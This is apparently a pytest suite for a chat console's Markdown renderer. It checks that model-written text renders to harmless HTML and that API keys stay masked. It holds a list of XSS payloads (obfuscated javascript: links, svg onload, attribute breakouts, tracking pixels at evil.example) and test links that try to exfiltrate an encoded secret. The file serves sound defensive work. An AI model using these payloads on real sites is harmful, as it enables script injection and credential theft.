"""The web chat's Markdown renderer (gateway/console/markdown.py) attacked on its own: whatever the
model writes, the HTML it returns holds only the tags and attributes a rendered answer needs, links
go to http, https or mailto only, nothing is fetched, and a secret split by markup is never
rendered whole. The daemon's side (events, the server-rendered page, a real browser) is in
tests/test_console_chat_attacks.py and tests/test_console_chat_browser.py."""

from __future__ import annotations

import random
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from gateway.console.markdown import rendered
from gateway.console.text import shown
from tests.console_support import PAYLOADS

SECRET = "sk-live-4f9a8b7c6d5e"
TAGS = {
    "p", "strong", "em", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "br", "s",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
ATTRS = {"a": {"href", "rel", "target"}, "code": {"class"}, "ol": {"start"}, "th": {"class"}, "td": {"class"}}

VECTORS = [
    *PAYLOADS.values(),
    "<script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/console/logout)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<http://a.example/"onmouseover="alert(1)>',
    '[x](https://ok.example/" onmouseover="alert(1))',
    "[x](https://ok.example 'title\" onmouseover=\"alert(1)')",
    "![track](https://evil.example/pixel.png)",
    "![track][p]\n\n[p]: https://evil.example/pixel.png",
    '```"><script>alert(1)</script>\ncode\n```',
    "<!-- <script>alert(1)</script> -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [y](javascript:alert(1)) |",
    "[x]()",
    "[x](<>)",
    "[x](http:/console/chat)",
    "[x](https:logout)",
    "[x](mailto:)",
    "[x](http://)",
]


class _Walk(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def walk(html: str) -> _Walk:
    w = _Walk()
    w.feed(html)
    w.close()
    return w


def assert_inert(html: str, source: str) -> None:
    found = walk(html).found
    for tag, attrs in found:
        assert tag in TAGS, (tag, source, html)
        for name, value in attrs:
            assert name in ATTRS.get(tag, set()), (tag, name, source, html)
            if name == "href":
                assert value is not None, html
                parts = urlsplit(value)
                assert parts.scheme in {"http", "https", "mailto"}, (value, html)
                assert parts.netloc or parts.scheme == "mailto", (value, html)
            if tag in ("th", "td"):  # a table's alignment: a class (the CSP refuses a style)
                assert value in ("align-left", "align-right", "align-center"), (value, html)
    lowered = html.lower()
    for bad in ("<script", "<img", "<iframe", "<svg", "<!--"):
        assert bad not in lowered, (bad, html)
    in_tags = str([attrs for _, attrs in found]).lower()
    for bad in ("javascript:", "onerror=", "onload="):  # may stand in the text, escaped; never in a tag
        assert bad not in in_tags, (bad, html)


def no_mask(text: str) -> str:
    return text


def mask(text: str) -> str:
    return text.replace(SECRET, "********")


def test_what_an_answer_needs_is_rendered() -> None:
    text = (
        "# Plan\n\n**Bold**, *it*, ~~old~~ and `x = 1`.\n\n- one\n- two\n\n1. first\n\n"
        "> quoted\n\n```python\nprint('hi')\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
        "[docs](https://example.com/a?b=1&c=2) and <mailto:ops@example.com>"
    )
    html = rendered(text, no_mask)
    assert html is not None
    for piece in (
        "<h1>Plan</h1>", "<strong>Bold</strong>", "<em>it</em>", "<s>old</s>", "<code>x = 1</code>",
        "<li>one</li>", "<ol>", "<blockquote>", '<code class="language-python">', "<table>",
        '<td class="align-right">2</td>',
        '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">docs</a>',
        'href="mailto:ops@example.com"',
    ):  # fmt: skip
        assert piece in html, (piece, html)
    assert_inert(html, text)


@pytest.mark.parametrize("source", VECTORS)
def test_hostile_markdown_renders_inert(source: str) -> None:
    html = rendered(source, no_mask)
    assert html is not None
    assert_inert(html, source)


def test_images_are_links_never_fetched() -> None:
    html = rendered("see ![chart](https://evil.example/pixel.png)", no_mask)
    assert html is not None and "<img" not in html
    assert '<a href="https://evil.example/pixel.png"' in html and ">chart</a>" in html


def test_random_markup_soup_stays_inert() -> None:
    """Fragments of Markdown and HTML syntax in random order (a fixed seed): the renderer's output
    always passes the same check as the named vectors."""
    pieces = [
        "<", ">", "/", '"', "'", "=", "[", "]", "(", ")", "!", "`", "```", "*", "_", "~~", "|", "\n",
        "\n\n", "---", "&", "#", ";", ":", " ", "\t", "\\", "a", "script", "img", "onerror", "href",
        "javascript", "JaVaScRiPt", "data", "http", "https://ok.example", "&#106;", "%6A", "svg",
        "onload", "alert(1)", "mailto", "<a ", "</a>", "-->", "<!--", "\u202e", "\x00",
    ]  # fmt: skip
    rng = random.Random(27)
    for _ in range(1500):
        source = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 40)))
        html = rendered(source, no_mask)
        if html is not None:
            assert_inert(html, source)


def test_a_secret_is_masked_before_rendering_and_never_joined_by_markup() -> None:
    # Whole: masked before it is rendered, in the text and in a link.
    text = shown(f"the key is **{SECRET}**, see [it](https://x.example/?k={SECRET})", mask)
    html = rendered(text, mask)
    assert html is not None and SECRET not in html and "********" in html
    # Split by markup: the masker cannot see it in the source, but the rendered text would read as
    # the secret. The message is then shown as plain text (the caller's fallback).
    half = len(SECRET) // 2
    for split in (
        f"{SECRET[:half]}**{SECRET[half:]}**",
        f"{SECRET[:half]}`{SECRET[half:]}`",
        f"{SECRET[:half]}<!-- -->{SECRET[half:]}",
        f"[{SECRET[:half]}](https://x.example){SECRET[half:]}",
        f"{SECRET[:half]}&#{ord(SECRET[half])};{SECRET[half + 1 :]}",
        f"{SECRET[:half]}\\{SECRET[half:]}",
    ):
        text = shown(split, mask)
        assert SECRET not in text, split
        html = rendered(text, mask)
        assert html is None or SECRET not in "".join(walk(html).text), (split, html)


def test_a_refused_address_leaves_its_text_as_text() -> None:
    for source in ("[here]()", "[here](http:/console/chat)", "[here](https:logout)", "[here](javascript:x)"):
        html = rendered(source, no_mask)
        assert html is not None and "<a" not in html and "here" in html, (source, html)


def test_a_secret_joined_in_a_link_address_or_a_fence_is_never_rendered() -> None:
    """Entities, backslash escapes and percent-encoding are decoded in a link's address (and the
    browser, or the site a click reaches, decodes the percent): a secret the source's masking could
    not see would be one click from leaving. Such a message is shown as plain text."""
    joined = SECRET[:5] + f"&#{ord(SECRET[5])};" + SECRET[6:]
    escaped = SECRET.replace("-", "\\-")
    percent = SECRET[:5] + f"%{ord(SECRET[5]):02X}" + SECRET[6:]
    for source in (
        f"[docs](https://evil.example/?k={joined})",
        f"[docs][r]\n\n[r]: https://evil.example/{joined}",
        f"[docs](https://evil.example/{escaped})",
        f"[docs](https://evil.example/?k={percent})",
        f"<mailto:a@evil.example?body={percent}>",
        f"```{joined}\ncode\n```",
    ):
        assert SECRET not in source and mask(source) == source, source
        assert rendered(source, mask) is None, source


def test_entities_do_not_bring_back_what_shown_made_visible() -> None:
    for entity, char in (
        ("&#8238;", "\u202e"),
        ("&shy;", "\u00ad"),
        ("&#x200B;", "\u200b"),
        ("&#xFEFF;", "\ufeff"),
    ):
        html = rendered(f"[{entity}moc.elgoog//:sptth](https://evil.example) x{entity}y", no_mask)
        assert html is not None and char not in html, (entity, html)
        assert f"\\u{ord(char):04x}" in html, (entity, html)


def test_the_mask_stays_three_stars() -> None:
    for source in ("password:\n***", "***admin***", "the key is *** and ***"):
        html = rendered(source, no_mask)
        assert html is not None and "<hr" not in html and "<strong>" not in html and "<em>" not in html, html
        assert "***" in html, html


def test_what_would_render_to_megabytes_is_shown_as_text() -> None:
    # A reference used a thousand times repeats its (percent-encoded) address each time.
    source = "[r]: https://e.example/" + "漢" * 200 + "\n\n" + "[r] " * 1500
    assert rendered(source, no_mask) is None
    long_link = f"[x](https://e.example/{'a' * 3000})"
    html = rendered(long_link, no_mask)
    assert html is not None and "<a" not in html, "an address over LINK_CHARS is no link"
    # A table of 500 columns is its text; a table of a few columns is a table.
    wide = "|" + "a|" * 500 + "\n|" + ":-:|" * 500 + "\n" + "x\n" * 500
    html = rendered(wide, no_mask)
    assert html is not None and "<table>" not in html
    html = rendered("| a | b | c |\n|---|---|---|\n| 1 | 2 | 3 |", no_mask)
    assert html is not None and "<table>" in html
